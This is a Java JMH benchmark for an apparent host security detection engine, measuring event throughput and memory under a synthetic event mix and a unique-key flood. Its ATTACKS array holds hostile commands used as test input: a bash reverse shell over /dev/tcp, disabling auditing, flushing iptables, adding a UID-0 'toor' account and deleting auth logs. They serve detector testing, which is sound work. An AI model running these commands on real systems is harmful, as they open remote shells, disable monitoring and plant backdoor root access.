package io.edgesec.detector.bench;

import io.edgesec.api.event.SecurityEvent;
import io.edgesec.detector.internal.Ev;
import io.edgesec.detector.internal.engine.DetectionEngine;
import io.edgesec.detector.internal.engine.DetectorSettings;
import io.edgesec.detector.internal.engine.Rules;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Level;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.Threads;
import org.openjdk.jmh.annotations.TearDown;
import org.openjdk.jmh.annotations.Warmup;
import org.openjdk.jmh.infra.BenchmarkParams;
import org.openjdk.jmh.infra.IterationParams;
import org.openjdk.jmh.runner.IterationType;

/**
 * The detector's throughput on one thread with every built-in rule on, over the collectors'
 * realistic mix (process starts of daemons, scripts and shells; connections; logins; account
 * changes; now and then an attack), and over a flood of unique keys (every event a new pid,
 * parent, address and user) that must not grow its memory (the state caps evict, counted).
 * Goal: at least 1,000,000 events/s on one core. {@code java -jar benchmarks.jar DetectorBenchmark}.
 */
@State(Scope.Thread)
@BenchmarkMode(Mode.Throughput)
@OutputTimeUnit(TimeUnit.SECONDS)
@Threads(1)
@Fork(value = 1, jvmArgsAppend = {"-Xmx256m"})
@Warmup(iterations = 3, time = 2)
@Measurement(iterations = 5, time = 2)
public class DetectorBenchmark {
    static final String[] COMMANDS = {
        "/usr/bin/python3 /opt/app/main.py --config /etc/app/app.yaml",
        "sh -c /usr/lib/sysstat/sa1 1 1",
        "/usr/lib/sysstat/sadc -F -L -S DISK 1 1 /var/log/sysstat",
        "ls -la /var/lib/app",
        "grep -q active /run/app/state",
        "sleep 1",
        "cat /proc/meminfo",
        "systemctl is-active --quiet app.service",
        "curl -s -o /dev/null http://127.0.0.1:8080/health",
        "/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock",
        "runc --root /var/run/docker/runtime-runc/moby --log /run/containerd/log.json --log-format json exec --process /tmp/runc-process123 abcdef",
        "/usr/bin/containerd-shim-runc-v2 -namespace moby -id 0123456789abcdef -address /run/containerd/containerd.sock",
        "date +%s",
        "awk -F: {print $1} /etc/passwd",
        "logger -t app started",
        "bash -c for f in /sys/class/thermal/thermal_zone*/temp; do cat $f; done",
        "/usr/sbin/logrotate /etc/logrotate.conf",
        "gzip -9 /var/log/app/app.log.1",
        "mv /var/log/app/app.log /var/log/app/app.log.1",
        "iotedge check --output json",
        "tar czf /backup/app.tgz /var/lib/app",
        "nc -z 10.0.0.7 1883",
        "ssh -o BatchMode=yes backup@10.0.0.9 true",
        "ps -eo pid,comm",
    };
    static final String[] EXES = {"/usr/bin/python3.11", "/usr/bin/dash", "/usr/lib/sysstat/sadc", "/usr/bin/ls", "/usr/bin/grep",
        "/usr/bin/sleep", "/usr/bin/cat", "/usr/bin/systemctl", "/usr/bin/curl", "/usr/bin/dockerd", "/usr/sbin/runc",
        "/usr/bin/containerd-shim-runc-v2", "/usr/bin/date", "/usr/bin/mawk", "/usr/bin/logger", "/usr/bin/bash",
        "/usr/sbin/logrotate", "/usr/bin/gzip", "/usr/bin/mv", "/usr/bin/iotedge", "/usr/bin/tar", "/usr/bin/nc.openbsd",
        "/usr/bin/ssh", "/usr/bin/ps"};
    static final String[] ATTACKS = {"bash -c \"bash -i >& /dev/tcp/10.0.0.5/4444 0>&1\"", "auditctl -e 0", "iptables -F",
        "useradd -o -u 0 toor", "rm -f /var/log/auth.log"};

    private static final int MIX = 4096;
    private SecurityEvent[] mix;
    private SecurityEvent[] flood;
    private DetectionEngine engine;
    private int i;
    private final java.lang.management.ThreadMXBean threads = java.lang.management.ManagementFactory.getThreadMXBean();
    private long iterationCpuStart;
    private int iterationOpsStart;
    private long measuredCpuNanos;
    private long measuredOps;

    @Setup(Level.Trial)
    public void setUp() {
        DetectorSettings s = DetectorSettings.defaults();
        engine = new DetectionEngine(Rules.load(s), s);
        mix = realisticMix(MIX, Instant.parse("2026-12-01T10:00:00Z"));
        flood = uniqueKeys(MIX * 16, Instant.parse("2026-12-01T10:00:00Z"));
    }

    @Setup(Level.Iteration)
    public void beforeIteration() {
        iterationCpuStart = threads.getCurrentThreadCpuTime();
        iterationOpsStart = i;
    }

    /** JMH's score is wall time, which a shared machine stretches: the CPU time of this thread is printed too. */
    @TearDown(Level.Iteration)
    public void afterIteration(IterationParams iteration) {
        if (iteration.getType() == IterationType.MEASUREMENT) {
            measuredCpuNanos += threads.getCurrentThreadCpuTime() - iterationCpuStart;
            measuredOps += i - iterationOpsStart; // one op per benchmark call: i counts them
        }
    }

    @TearDown(Level.Trial)
    public void report(BenchmarkParams params) {
        System.out.printf("%n[%s] cpu-normalized: %.0f events per CPU-second of the benchmark thread (%d events in %.3f s CPU "
                + "over the measurement iterations)%n", params.getBenchmark(),
                measuredCpuNanos == 0 ? 0.0 : measuredOps * 1e9 / measuredCpuNanos, measuredOps, measuredCpuNanos / 1e9);
    }

    @Benchmark
    public int realisticMix() {
        SecurityEvent e = mix[i++ & (MIX - 1)];
        return engine.detect(e).size();
    }

    @Benchmark
    public int uniqueKeyFlood() {
        SecurityEvent e = flood[i++ % flood.length];
        return engine.detect(e).size();
    }

    /** 70 % process starts, 25 % connections, 4 % logins (a third failed), 1 % account changes; one attack in 1,000. */
    static SecurityEvent[] realisticMix(int n, Instant t0) {
        SecurityEvent[] out = new SecurityEvent[n];
        java.util.SplittableRandom r = new java.util.SplittableRandom(42);
        for (int k = 0; k < n; k++) {
            Instant t = t0.plusMillis(k);
            int roll = r.nextInt(1000);
            int pid = 10_000 + k;
            int ppid = 1000 + r.nextInt(50);
            if (k % 1000 == 999) { // exactly one in 1,000: a random draw gave none in the 4,096 with this seed
                out[k] = process(ATTACKS[(k / 1000) % ATTACKS.length], "/usr/bin/bash", pid, ppid, t);
            } else if (roll < 700) {
                int c = r.nextInt(COMMANDS.length);
                out[k] = process(COMMANDS[c], EXES[c], pid, ppid, t);
            } else if (roll < 950) {
                out[k] = connection("10.0.0." + r.nextInt(20), 443 + r.nextInt(3), r.nextBoolean() ? "/usr/bin/curl" : "/usr/bin/python3.11", pid, t);
            } else if (roll < 990) {
                out[k] = login("admin" + r.nextInt(3), "10.0.0." + r.nextInt(20), r.nextInt(3) != 0, t);
            } else {
                out[k] = account(t);
            }
        }
        return out;
    }

    /** Every event a new pid, parent, user and address: each stateful rule's table fills and evicts. */
    static SecurityEvent[] uniqueKeys(int n, Instant t0) {
        SecurityEvent[] out = new SecurityEvent[n];
        for (int k = 0; k < n; k++) {
            out[k] = uniqueKey(k, t0);
        }
        return out;
    }

    static SecurityEvent uniqueKey(int k, Instant t0) {
        Instant t = t0.plusMillis(k);
        return switch (k % 4) {
            case 0 -> process("id", "/usr/bin/id", 100_000 + k, 50_000 + k, t);
            case 1 -> process("curl -o /tmp/f" + k + " http://10.1.2.3/x", "/usr/bin/curl", 100_000 + k, 50_000 + k, t);
            case 2 -> login("user" + k, "10." + (k >> 16 & 255) + "." + (k >> 8 & 255) + "." + (k & 255), false, t);
            default -> process("/tmp/x" + k, "/tmp/x" + k, 100_000 + k, 50_000 + k, t);
        };
    }

    static SecurityEvent process(String cmd, String exe, int pid, int ppid, Instant t) {
        Map<String, Object> p = Ev.processFields(new LinkedHashMap<>(), exe, cmd, "root", pid, ppid);
        p.put("ExtraDetails", Map.of("AuditUserId", "1000", "Cwd", "/root"));
        return SecurityEvent.builder("ProcessCreate").timestamp(t).payload(p).build();
    }

    static SecurityEvent connection(String addr, int port, String exe, int pid, Instant t) {
        Map<String, Object> p = new LinkedHashMap<>();
        p.put("RemoteAddress", addr);
        p.put("RemotePort", Integer.toString(port));
        p.put("Direction", "Out");
        p.put("Protocol", "tcp");
        p.put("ProcessId", pid);
        p.put("Executable", exe);
        p.put("CommandLine", exe);
        p.put("UserId", "0");
        return SecurityEvent.builder("ConnectionCreate").timestamp(t).payload(p).build();
    }

    static SecurityEvent login(String user, String addr, boolean ok, Instant t) {
        Map<String, Object> p = new LinkedHashMap<>();
        p.put("ProcessId", 700);
        p.put("Operation", "PAM:authentication");
        p.put("Executable", "/usr/sbin/sshd");
        p.put("UserName", user);
        p.put("RemoteAddress", addr);
        p.put("Result", ok ? "Success" : "Fail");
        p.put("ExtraDetails", Map.of("RecordType", "USER_AUTH", "Terminal", "ssh"));
        return SecurityEvent.builder("Login").timestamp(t).payload(p).build();
    }

    static SecurityEvent account(Instant t) {
        return SecurityEvent.builder("AccountChange").timestamp(t).payload(Map.of("RecordType", "USER_CHAUTHTOK",
                "Operation", "changing-password", "UserName", "admin", "Executable", "/usr/bin/passwd", "ProcessId", 800,
                "ActorUserId", "1000", "Result", "Success")).build();
    }

    /**
     * Memory under the flood, outside JMH: feeds 2 million unique-key events and prints the heap
     * in use after a GC at each half million, with the evictions the caps counted.
     */
    public static void main(String[] args) {
        if (args.length > 0 && args[0].equals("cpu")) {
            cpu(args.length > 1 ? Integer.parseInt(args[1]) : 5, args.length > 2 ? Integer.parseInt(args[2]) : 2_000_000);
            return;
        }
        DetectorSettings s = DetectorSettings.defaults();
        DetectionEngine engine = new DetectionEngine(Rules.load(s), s);
        Instant t0 = Instant.parse("2026-12-01T10:00:00Z");
        Runtime rt = Runtime.getRuntime();
        System.out.printf("before: heap in use %,d KiB%n", used(rt) / 1024);
        for (int k = 0; k < 2_000_000; k++) {
            engine.detect(uniqueKey(k, t0)); // built one at a time: the input is not the engine's memory
            if ((k + 1) % 250_000 == 0) {
                System.out.printf("after %,d unique-key events: heap in use %,d KiB; %s%n", k + 1, used(rt) / 1024,
                        engine.counters());
            }
        }
        System.out.println(List.of("rules", engine.ruleCount()));
    }

    /**
     * The realistic mix measured in CPU time of the judging thread ({@code getCurrentThreadCpuTime}),
     * which a loaded shared machine does not distort the way it does wall-clock time: one warm-up
     * round, then {@code rounds} rounds of {@code events} events; prints each round and the best
     * and median. {@code java -cp benchmarks.jar io.edgesec.detector.bench.DetectorBenchmark cpu 5 2000000}.
     */
    static void cpu(int rounds, int events) {
        DetectorSettings s = DetectorSettings.defaults();
        DetectionEngine engine = new DetectionEngine(Rules.load(s), s);
        SecurityEvent[] m = realisticMix(MIX, Instant.parse("2026-12-01T10:00:00Z"));
        java.lang.management.ThreadMXBean threads = java.lang.management.ManagementFactory.getThreadMXBean();
        double[] rates = new double[rounds];
        long alerts = 0;
        for (int round = -1; round < rounds; round++) { // round -1: warm-up (JIT), not counted
            long cpu0 = threads.getCurrentThreadCpuTime();
            for (int k = 0; k < events; k++) {
                alerts += engine.detect(m[k & (MIX - 1)]).size();
            }
            long cpu = threads.getCurrentThreadCpuTime() - cpu0;
            if (round >= 0) {
                rates[round] = events * 1e9 / cpu;
                System.out.printf("round %d: %,.0f events per CPU-second (%,d events in %.3f s CPU)%n", round + 1,
                        rates[round], events, cpu / 1e9);
            }
        }
        double[] sorted = rates.clone();
        java.util.Arrays.sort(sorted);
        System.out.printf("realisticMix, CPU time of the judging thread: best %,.0f, median %,.0f events per CPU-second "
                + "(goal 1,000,000: ratio %.2f best, %.2f median); %d alerts%n", sorted[rounds - 1], sorted[rounds / 2],
                sorted[rounds - 1] / 1e6, sorted[rounds / 2] / 1e6, alerts);
    }

    private static long used(Runtime rt) {
        for (int k = 0; k < 3; k++) {
            System.gc();
        }
        return rt.totalMemory() - rt.freeMemory();
    }
}
